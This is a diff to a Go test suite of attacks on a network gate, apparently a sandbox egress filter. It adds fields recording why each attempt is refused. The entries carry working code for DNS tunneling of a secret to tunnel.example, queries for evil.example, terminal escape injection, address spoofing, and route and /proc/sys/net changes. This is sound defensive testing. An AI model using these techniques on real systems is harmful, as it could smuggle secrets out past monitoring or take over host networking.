@@ -96,26 +96,26 @@ var gateAttacks = []Attack{
 	asked("gate-dns-localhost", "ask for the host itself", "localhost", 1, 1),
 	asked("gate-dns-terminal", "write to the terminal of whoever reads the name", "\x1b]0;x\x07\x1b[2J{name}", 1, 1),
 
-	{Name: "gate-dns-two", What: "ask for two names at once, the first of which is allowed", Applies: gated, Run: func(f Facts) error {
+	{Name: "gate-dns-two", Because: noQuery, What: "ask for two names at once, the first of which is allowed", Applies: gated, Run: func(f Facts) error {
 		q := question(f.Gate.Name, 1, 1)
 		q[5] = 2
 		return dns(f, append(q, question("evil.example", 1, 1)[12:]...))
 	}},
-	{Name: "gate-dns-loop", What: "ask for a name that points at itself", Applies: gated, Run: func(f Facts) error {
+	{Name: "gate-dns-loop", Because: noQuery, What: "ask for a name that points at itself", Applies: gated, Run: func(f Facts) error {
 		return dns(f, append(question("", 1, 1)[:12], 0xc0, 12, 0, 1, 0, 1))
 	}},
-	{Name: "gate-dns-update", What: "change a zone", Applies: gated, Run: func(f Facts) error {
+	{Name: "gate-dns-update", Because: noQuery, What: "change a zone", Applies: gated, Run: func(f Facts) error {
 		q := question("evil.example", 6, 1)
 		q[2] |= 5 << 3
 		return dns(f, q)
 	}},
-	{Name: "gate-ask-tunnel", What: "send a secret away as names that a person is asked about, piece by piece", Applies: asks, Run: func(f Facts) error {
+	{Name: "gate-ask-tunnel", Because: tooMany, What: "send a secret away as names that a person is asked about, piece by piece", Applies: asks, Run: func(f Facts) error {
 		return flood(f, func(i int) string {
 			at := i % len(f.Secret)
 			return fmt.Sprintf("%x.%d.tunnel.example", f.Secret[at:], i)
 		})
 	}},
-	{Name: "gate-ask-flood", What: "have so many questions wait for a person that nothing else is decided", Applies: asks, Run: func(f Facts) error {
+	{Name: "gate-ask-flood", Because: tooMany, What: "have so many questions wait for a person that nothing else is decided", Applies: asks, Run: func(f Facts) error {
 		var fds []int
 		defer func() {
 			for _, fd := range fds {
@@ -165,12 +165,12 @@ var gateAttacks = []Attack{
 		})
 	}},
 	{Name: "gate-race", What: "change the address while it is looked at", Applies: gated, Told: "{host}:{tcp}", Run: raceAddress},
-	{Name: "gate-source-route", What: "have a packet go another way", Applies: gated, Run: func(f Facts) error {
+	{Name: "gate-source-route", None: Kernel, What: "have a packet go another way", Applies: gated, Run: func(f Facts) error {
 		return tcpWith(f, func(fd int) error {
 			return unix.SetsockoptString(fd, unix.IPPROTO_IP, unix.IP_OPTIONS, "\x83\x07\x04\x7f\x00\x00\x01\x00")
 		})
 	}},
-	{Name: "gate-spoof", What: "send from an address that is somebody else's", Applies: gated, Run: func(f Facts) error {
+	{Name: "gate-spoof", None: Kernel, What: "send from an address that is somebody else's", Applies: gated, Run: func(f Facts) error {
 		return tcpWith(f, func(fd int) error {
 			if err := unix.SetsockoptInt(fd, unix.IPPROTO_IP, unix.IP_FREEBIND, 1); err != nil {
 				return err
@@ -178,7 +178,7 @@ var gateAttacks = []Attack{
 			return unix.Bind(fd, &unix.SockaddrInet4{Addr: [4]byte{127, 0, 0, 1}})
 		})
 	}},
-	{Name: "gate-interface", What: "change the interface: its address, its state, its name", Applies: gated, Run: func(f Facts) error {
+	{Name: "gate-interface", None: Kernel, What: "change the interface: its address, its state, its name", Applies: gated, Run: func(f Facts) error {
 		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0)
 		if err != nil {
 			return err
@@ -193,17 +193,17 @@ var gateAttacks = []Attack{
 			return nil
 		})
 	}},
-	{Name: "gate-netlink", What: "change routes, addresses and interfaces by netlink", Applies: gated, Run: func(f Facts) error {
+	{Name: "gate-netlink", None: Kernel, What: "change routes, addresses and interfaces by netlink", Applies: gated, Run: func(f Facts) error {
 		return each([]uint16{unix.RTM_NEWROUTE, unix.RTM_DELROUTE, unix.RTM_NEWADDR, unix.RTM_DELADDR, unix.RTM_DELLINK, unix.RTM_SETLINK, unix.RTM_NEWNEIGH, unix.RTM_NEWRULE, unix.RTM_NEWQDISC}, changeByNetlink)
 	}},
-	{Name: "gate-tun", What: "make an interface of one's own", Applies: gated, Run: func(f Facts) error {
+	{Name: "gate-tun", None: Kernel, What: "make an interface of one's own", Applies: gated, Run: func(f Facts) error {
 		fd, err := unix.Open("/dev/net/tun", unix.O_RDWR, 0)
 		if err != nil {
 			return err
 		}
 		return unix.Close(fd)
 	}},
-	{Name: "gate-forward", What: "change how the kernel treats packets", Applies: gated, Run: func(f Facts) error {
+	{Name: "gate-forward", None: Kernel, What: "change how the kernel treats packets", Applies: gated, Run: func(f Facts) error {
 		return each([]string{"ipv4/ip_forward", "ipv4/conf/all/route_localnet", "ipv4/conf/eth0/accept_local", "ipv6/conf/all/forwarding", "ipv4/ip_unprivileged_port_start"}, func(p string) error {
 			return os.WriteFile("/proc/sys/net/"+p, []byte("1"), 0)
 		})
@@ -254,10 +254,14 @@ func toUDP(name, what, to string, proto int, text string) Attack {
 	if host, _, _ := strings.Cut(to, ":"); host == "224.0.0.251" || host == "239.255.255.250" || host == "255.255.255.255" {
 		told = host + ":0" // whatever the port
 	}
-	if proto != 0 || len(text) > 1<<15 {
-		told = "" // no packet of this kind gets as far as to be told of one by one
+	a := Attack{Name: name, What: what, Applies: gated, Told: told}
+	switch {
+	case proto != 0:
+		a.Told, a.Refused = "", []string{"socket"}
+	case len(text) > 1<<15:
+		a.Told, a.None = "", "pieces of packets are dropped before anybody knows what they are of"
 	}
-	return Attack{Name: name, What: what, Applies: gated, Told: told, Run: func(f Facts) error {
+	a.Run = func(f Facts) error {
 		at, err := f.place(to)
 		if err != nil {
 			return err
@@ -269,19 +273,29 @@ func toUDP(name, what, to string, proto int, text string) Attack {
 			}
 			return answered(fd)
 		})
-	}}
+	}
+	return a
 }
 
 // asked is an attempt to have a name looked up.
 func asked(name, what, host string, kind, class uint16) Attack {
-	told := host
-	if strings.ContainsAny(host, "\x00\\\r\x1b") || class != 1 {
-		told = "" // it is no name
+	a := Attack{Name: name, What: what, Applies: gated, Told: host}
+	switch {
+	case strings.ContainsAny(host, "\x00\\\r\x1b"):
+		a.Told, a.Because = "", noName
+	case class != 1:
+		a.Told, a.Because = "", noQuery
 	}
-	return Attack{Name: name, What: what, Applies: gated, Told: told, Run: func(f Facts) error {
-		return dns(f, question(f.Fill(host), kind, class))
-	}}
+	a.Run = func(f Facts) error { return dns(f, question(f.Fill(host), kind, class)) }
+	return a
 }
+
+// Why the gate refuses what leads nowhere that could be named.
+const (
+	noName  = "this is no host name"
+	noQuery = "the query is malformed or of a kind that is not answered"
+	tooMany = "too many questions wait for a person already"
+)
 
 // question is a query of DNS (RFC 1035, section 4.1).
 func question(host string, kind, class uint16) []byte {
